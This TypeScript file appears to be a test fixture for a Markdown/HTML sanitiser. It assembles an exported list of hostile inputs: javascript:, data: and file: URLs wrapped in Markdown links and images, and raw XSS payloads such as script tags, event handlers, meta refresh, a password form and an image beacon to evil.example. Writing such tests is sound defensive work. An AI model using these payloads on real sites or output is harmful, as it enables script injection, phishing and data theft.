/** What an answer may hold when somebody has written it to do harm; `{}` stands for each of the addresses. */
const addresses = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\\script:alert(1)', '&#106;avascript:alert(1)', 'java&#x09;script:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:x', 'file:///etc/passwd', 'blob:https://evil.example/x', '//evil.example/x', '\u0001javascript:alert(1)', 'https:javascript:alert(1)', 'about:blank', 'view-source:https://evil.example', 'filesystem:https://evil.example/x'];
const around = ['[click]({})', '![click]({})', '<{}>', '[click](<{}>)', '[![x]({})]({})', '[a\n]({})', '[click]({} "title")', '| a |\n|-|\n| [x]({}) |', '- [x]({})', '> ![x]({})'];
const raw = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<iframe src=https://evil.example>', '<form action=https://evil.example><input name=password></form>', '<a href="javascript:alert(1)">x</a>',
  '<math><mtext></mtext><script>alert(1)</script></math>', '<style>*{background:url(https://evil.example)}</style>', '<link rel=stylesheet href=https://evil.example>', '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example>', '<object data=x>', '<embed src=x>', '<video src=x onerror=alert(1)>', '<details open ontoggle=alert(1)>', '<body onload=alert(1)>', '<input autofocus onfocus=alert(1)>', '<br onclick=alert(1)>', '<br/ onclick=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml version="1.0"?>', '`<img src=x onerror=alert(1)>`', '```html\n<img src=x onerror=alert(1)>\n```', '```" onload="alert(1)\nx\n```', '~~~<script>\nx\n~~~',
  '[x](https://a.example" onclick="alert(1))', '[x](https://a.example\' onclick=\'alert(1))', '[x](https://a.example "t" onclick="y")', '![" onerror="alert(1)](https://evil.example/x.png)', '![x](https://evil.example/?q=secret)', '![x][1]\n\n[1]: https://evil.example/x.png',
  '[1]: javascript:alert(1)\n\n[x][1]', '<https://evil.example/" onclick="alert(1)>', 'https://evil.example/"onmouseover="alert(1)', 'www.evil.example', '\\<script>alert(1)\\</script>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;img src=x onerror=alert(1)&#62;',
  '$$\\href{javascript:alert(1)}{x}$$', '\\(\\includegraphics{https://evil.example/x.png}\\)', '$$\\htmlStyle{background:url(https://evil.example)}{x}$$', '$\\url{javascript:alert(1)}$', '|<img src=x onerror=alert(1)>|\n|-|\n|<script>|', '1. <script>\n2. </script>', '# <img src=x onerror=alert(1)>',
  '**<b onclick=alert(1)>x</b>**', '*[x](javascript:alert(1)*', '[[[[[[x](javascript:a)](javascript:b)](javascript:c)](javascript:d)](javascript:e)](javascript:f)', '\u202ehttps://evil.example', '<ｓcript>alert(1)</script>', '\u0000<script>', '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
];

export const hostile: string[] = [...around.flatMap(text => addresses.map(address => text.replaceAll('{}', address))), ...raw];
